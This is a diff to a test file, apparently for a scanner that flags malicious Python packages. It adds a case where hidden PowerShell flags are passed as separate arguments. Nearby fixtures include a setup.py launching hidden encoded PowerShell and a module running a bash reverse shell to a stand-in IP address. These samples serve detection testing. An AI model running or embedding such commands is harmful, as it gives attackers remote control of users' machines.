@@ -63,6 +63,9 @@ CASES = [
     ("STATIC-POWERSHELL-HIDDEN",
      (P, "pkg", sdist("pkg", setup_py("import subprocess\nsubprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0A')"))),
      (P, "pkg", sdist("pkg", setup_py('import subprocess\nsubprocess.run(["powershell", "-Command", "Get-ChildItem"])')))),
+    ("STATIC-POWERSHELL-HIDDEN",  # the flags as argv items
+     (P, "pkg", sdist("pkg", module('import subprocess\ndef run(cmd=DEFAULT):\n    return subprocess.Popen(["powershell", "-NoProfile", "-WindowStyle", "Hidden", "-Command", cmd])'))),
+     (P, "pkg", sdist("pkg", module('import subprocess\ndef run(cmd):\n    return subprocess.run(["powershell", "-NoProfile", "-NonInteractive", "-Command", cmd])')))),
     ("STATIC-REVERSE-SHELL",
      (P, "pkg", sdist("pkg", module('import os\nos.system("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1")'))),
      (P, "pkg", sdist("pkg", module("import os\nos.system(\"bash -c 'echo hi'\")")))),
